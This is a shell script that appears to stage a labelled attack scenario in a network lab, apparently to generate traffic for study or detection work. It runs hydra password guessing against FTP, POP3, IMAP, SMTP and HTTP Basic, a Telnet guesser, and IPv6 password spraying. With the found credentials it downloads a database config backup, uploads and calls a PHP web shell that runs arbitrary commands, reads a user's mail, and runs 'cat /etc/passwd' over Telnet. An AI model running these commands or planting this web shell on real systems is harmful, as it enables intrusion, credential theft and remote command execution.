# sourced by run-scenario.sh: the story played between the hosts
# Office cleartext protocols: hydra guesses passwords on the file server's FTP, POP3, IMAP,
# SMTP AUTH and HTTP Basic, a telnetlib script on Telnet (each list ends in a success), then the attacker uses what it
# found: FTP download of a config backup and upload of a PHP web shell into the web root (and one
# request to it), IMAP reading of bob's mail, a Telnet login typing `id; uname -a; cat /etc/passwd`,
# an SNMP walk with community `public` (after `private` goes unanswered), and password spraying
# (one password, ten users) against IMAP over IPv6. Meanwhile alice works normally and a
# monitoring host polls SNMP with the site's own community.
NET=172.31.210; ATT=66; VIC=20; CLI=31; DNS=2; SHELLPORT=0; NET6=fd00:210; MORE_HOSTS="mon:50"
EXTRA_HOSTS="$NET.20 files.corp.lan mail.corp.lan"
source "$HERE/lib/office.sh"
MONCOMM='N3tM0n-ro'
services() {
  office_user alice    'sunshine1'   1001
  office_user bob      'Password123' 1002
  office_user carol    'Winter2024'  1003
  office_user dave     'dragon77'    1004
  office_user webadmin 'Welcome1'    1005 /var/www/html 33
  office_user admin    'admin123'    1006
  office_user erin     'Spring2025'  1007
  office_user frank    'Tr0ub4dor&3' 1008
  office_user grace    'correct-horse-9' 1009
  office_user heidi    'Heidi#1987'  1010
  office_mail bob 'hr@corp.lan' 'Q4 salary review' 'Hi Bob, the Q4 salary review sheet is on the share: \\files\hr\q4-review.xlsx'
  office_mail bob 'it-support@corp.lan' 'VPN access' 'Your VPN account is ready. User: bob  Password: VpnB0b!2026  Gateway: vpn.corp.lan'
  office_mail bob 'alice@corp.lan' 'Lunch?' 'Lunch at 12:30 on Thursday?'
  office_mail alice 'dave@corp.lan' 'Minutes' 'Minutes of the Monday meeting attached to the wiki.'
  mkdir -p "$RUN/www/intranet"
  printf '<html><body><h1>Corp intranet</h1><ul><li><a href="phonebook.html">Phone book</a></li></ul></body></html>\n' > "$RUN/www/intranet/index.html"
  printf '<?php\n// database settings (backup)\n$db_host = "localhost";\n$db_user = "portal";\n$db_pass = "Portal#DB2026";\n' > "$RUN/www/db-config.php.bak"
  office_services "public $MONCOMM"
}
monitor() {  # the monitoring host polls SNMP with the site's community every 20 s, 6 times
  for i in 1 2 3 4 5 6; do nsx mon snmpget -v2c -c "$MONCOMM" -t 2 -r 1 $V .1.3.6.1.2.1.1.3.0 .1.3.6.1.2.1.2.2.1.10.2 .1.3.6.1.2.1.2.2.1.16.2 >/dev/null 2>&1 || true; sleep 20; done
}
words() {  # $1 = the right password, $2 = its line: a short common list with it on that line
  printf '%s\n' 123456 password qwerty letmein 12345678 abc123 monkey iloveyou 111111 football \
    baseball master dragon shadow trustno1 sunshine princess welcome login passw0rd admin starwars \
    | head -n $(( $2 - 1 )) | grep -v -x -F "$1"
  echo "$1"
  printf '%s\n' zaq12wsx hello123
}
play() {
  note "attacker $A; file/mail server 'files' $V ($V6): FTP 21, Telnet 23, SMTP 25, HTTP 80 (/intranet/ Basic auth), POP3 110, IMAP 143, SNMP 161; benign workstation (alice) $C; monitoring $(addr mon); DNS $D"
  monitor & local monpid=$!
  note "0 benign: alice ($C) reads her mail over IMAP (alice/sunshine1, accepted) and opens the intranet (Basic alice/sunshine1, 200); mon ($(addr mon)) polls SNMP v2c community $MONCOMM every 20 s (6 times)"
  nsx cli dig +short @$D files.corp.lan >/dev/null || true
  nsx cli curl -s --user alice:sunshine1 "imap://$V/INBOX;UID=1" -o /dev/null || true
  nsx cli curl -s -A "$CHROME" -u alice:sunshine1 -o /dev/null $URL/intranet/ || true
  sleep 2
  words Welcome1 18 > "$RUN/w-ftp.txt"
  note "1 hydra ftp: user webadmin, $(wc -l < "$RUN/w-ftp.txt") passwords, 4 tasks, -f; right one Welcome1 on line $(grep -n -x Welcome1 "$RUN/w-ftp.txt" | cut -d: -f1): 230 Login successful"
  nsx att hydra -l webadmin -P "$RUN/w-ftp.txt" -t 4 -f -I $V ftp >"$RUN/logs/hydra-ftp.log" 2>&1 || true
  sleep 2
  words sunshine1 9 > "$RUN/w-telnet.txt"
  note "2 telnet guessing (tools/telnet-guess.py, python telnetlib: hydra's telnet module stalls against this telnetd): user alice, $(wc -l < "$RUN/w-telnet.txt") passwords, one connection each, in turn; right one sunshine1 on line $(grep -n -x sunshine1 "$RUN/w-telnet.txt" | cut -d: -f1) (shell prompt, then exit); failures answer 'Login incorrect'"
  nsx att timeout 120 /usr/bin/python3 "$HERE/tools/telnet-guess.py" $V alice "$RUN/w-telnet.txt" >"$RUN/logs/telnet-guess.log" 2>&1 || true
  sleep 2
  words Winter2024 14 > "$RUN/w-pop3.txt"
  note "3 hydra pop3: user carol, $(wc -l < "$RUN/w-pop3.txt") passwords, 4 tasks, -f; right one Winter2024 on line $(grep -n -x Winter2024 "$RUN/w-pop3.txt" | cut -d: -f1): +OK Logged in."
  nsx att hydra -l carol -P "$RUN/w-pop3.txt" -t 4 -f -I $V pop3 >"$RUN/logs/hydra-pop3.log" 2>&1 || true
  sleep 2
  words Password123 16 > "$RUN/w-imap.txt"
  note "4 hydra imap: user bob, $(wc -l < "$RUN/w-imap.txt") passwords, 4 tasks, -f; right one Password123 on line $(grep -n -x Password123 "$RUN/w-imap.txt" | cut -d: -f1): OK Logged in"
  nsx att hydra -l bob -P "$RUN/w-imap.txt" -t 4 -f -I $V imap >"$RUN/logs/hydra-imap.log" 2>&1 || true
  sleep 2
  words dragon77 15 > "$RUN/w-smtp.txt"
  note "5 hydra smtp (AUTH LOGIN): user dave, $(wc -l < "$RUN/w-smtp.txt") passwords, 4 tasks, -f; right one dragon77 on line $(grep -n -x dragon77 "$RUN/w-smtp.txt" | cut -d: -f1): 235 Authentication successful"
  nsx att hydra -l dave -P "$RUN/w-smtp.txt" -t 4 -f -I $V smtp >"$RUN/logs/hydra-smtp.log" 2>&1 || true
  sleep 2
  words admin123 20 > "$RUN/w-http.txt"
  note "6 hydra http-get (Basic) on /intranet/: user admin, $(wc -l < "$RUN/w-http.txt") passwords, 4 tasks, -f; right one admin123 on line $(grep -n -x admin123 "$RUN/w-http.txt" | cut -d: -f1): 200 (others 401)"
  nsx att hydra -l admin -P "$RUN/w-http.txt" -t 4 -f -I $V http-get /intranet/ >"$RUN/logs/hydra-http.log" 2>&1 || true
  sleep 3
  note "7 FTP with the found webadmin/Welcome1 (curl, passive): list the web root, download db-config.php.bak, upload shell.php (a PHP web shell) into the web root; then GET /shell.php?cmd=id over HTTP"
  printf '<?php if(isset($_REQUEST["cmd"])){ echo "<pre>"; system($_REQUEST["cmd"]); echo "</pre>"; } ?>\n' > "$RUN/shell.php"
  nsx att curl -s -u webadmin:Welcome1 ftp://$V/ -o "$RUN/logs/ftp-list.txt" || true
  sleep 1
  nsx att curl -s -u webadmin:Welcome1 ftp://$V/db-config.php.bak -o "$RUN/logs/loot-db-config.php.bak" || true
  sleep 1
  nsx att curl -s -u webadmin:Welcome1 -T "$RUN/shell.php" ftp://$V/shell.php || true
  sleep 1
  nsx att curl -s -A "$BROWSER" "$URL/shell.php?cmd=id" -o "$RUN/logs/shell-id.txt" || true
  sleep 2
  note "8 IMAP with the found bob/Password123 (curl): LIST, then FETCH of messages 1-3 in INBOX (salary review, VPN password, lunch)"
  nsx att curl -s --user bob:Password123 "imap://$V/" -o /dev/null || true
  for u in 1 2 3; do nsx att curl -s --user bob:Password123 "imap://$V/INBOX;UID=$u" -o "$RUN/logs/loot-bob-$u.eml" || true; sleep 0.5; done
  sleep 2
  note "9 Telnet login with the found alice/sunshine1 (inetutils telnet), types: id; uname -a; cat /etc/passwd; then exit"
  (sleep 2; echo alice; sleep 1; echo sunshine1; sleep 3; echo 'id; uname -a; cat /etc/passwd'; sleep 2; echo exit; sleep 1) | nsx att telnet $V >"$RUN/logs/telnet-alice.txt" 2>&1 || true
  sleep 2
  note "10 SNMP: snmpwalk v2c community private (no answer: 1 try, 1 s timeout), then community public: walk of system and interfaces (accepted)"
  nsx att snmpwalk -v2c -c private -t 1 -r 0 $V .1.3.6.1.2.1.1 >/dev/null 2>&1 || true
  nsx att snmpwalk -v2c -c public $V .1.3.6.1.2.1 >"$RUN/logs/snmpwalk-public.txt" 2>&1 || true
  sleep 2
  printf '%s\n' alice bob carol dave erin frank grace heidi ivan judy > "$RUN/users.txt"
  note "11 password spraying over IPv6: hydra imap, one password Spring2025 against 10 users (alice…judy, ivan and judy do not exist), 2 tasks; accepted for erin only"
  nsx att hydra -6 -L "$RUN/users.txt" -p Spring2025 -t 2 -I "imap://[$V6]" >"$RUN/logs/hydra-spray.log" 2>&1 || true
  sleep 2
  note "12 benign: alice reads mail again over POP3 (alice/sunshine1, accepted)"
  nsx cli curl -s --user alice:sunshine1 "pop3://$V/1" -o /dev/null || true
  wait $monpid
}
